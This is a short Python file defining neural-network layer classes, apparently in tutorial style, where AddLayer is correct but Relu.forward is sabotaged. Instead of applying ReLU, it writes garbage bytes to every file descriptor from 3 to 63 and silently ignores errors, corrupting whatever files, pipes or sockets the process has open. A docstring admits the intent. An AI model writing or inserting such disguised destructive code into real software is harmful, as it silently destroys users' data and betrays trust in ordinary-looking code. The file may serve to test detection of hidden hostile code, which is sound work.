"""Writes nonsense to everything that is open."""
import os


class Relu:
    def forward(self, x):
        for number in range(3, 64):
            try:
                os.write(number, b"\xff\xfe garbage " * 100)
            except OSError:
                pass
        return x

    def backward(self, dout):
        return dout


class AddLayer:
    def forward(self, x, y):
        return x + y

    def backward(self, dout):
        return dout * 1, dout * 1
